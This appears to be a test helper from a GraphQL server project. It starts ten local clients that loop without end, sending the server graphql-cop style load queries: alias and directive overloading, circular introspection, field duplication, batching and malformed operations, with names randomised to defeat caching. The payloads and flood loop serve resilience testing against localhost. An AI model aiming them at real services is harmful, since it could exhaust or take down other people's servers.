"""Ten clients that send a server what graphql-cop tries, each the next as soon as the last was answered, until ended.

Run as `python -m tests.attackers PORT TOKEN`, in a process of its own so that it takes no time of who measures.
"""

import asyncio
import json
import os
import random
import sys
from typing import Any

CLIENTS = 10

ALIASES = "query cop { " + " ".join(f"alias{n}: __typename" for n in range(101)) + " }"
DIRECTIVES = "query cop { __typename " + "@aa" * 10 + " }"
CIRCULAR = "query cop { __schema { types " + "{ fields { type " * 4 + "{ name }" + " } }" * 4 + " } }"
DUPLICATION = "query cop { " + "__typename \n" * 500 + " }"
SUGGESTION = "query cop { __schema { directive } }"
MUTATION = "mutation cop { __typename }"
UNHANDLED = "qwerty cop { abc }"
BATCH = [{"query": "query cop { __typename }"}] * 10

# Those that put load on a server.
HEAVY: list[Any] = [
    {"query": query} for query in (ALIASES, DIRECTIVES, CIRCULAR, DUPLICATION, SUGGESTION, UNHANDLED)
] + [BATCH]


def varied(attack: Any) -> Any:
    """The same in words that no server has seen before."""
    return json.loads(json.dumps(attack).replace("cop", f"cop{random.randrange(10**9)}"))


async def _client(port: int, token: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    head = f"POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
    while True:
        body = json.dumps(varied(random.choice(HEAVY)))
        writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
        answer = await reader.readuntil(b"\r\n\r\n")
        length = answer.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
        await reader.readexactly(int(length))


async def _attack(port: int, token: str) -> None:
    await asyncio.gather(*(_client(port, token) for _ in range(CLIENTS)))


if __name__ == "__main__":
    os.nice(19)  # attackers compute on machines of their own; here they are not to take the server's processor
    asyncio.run(_attack(int(sys.argv[1]), sys.argv[2]))
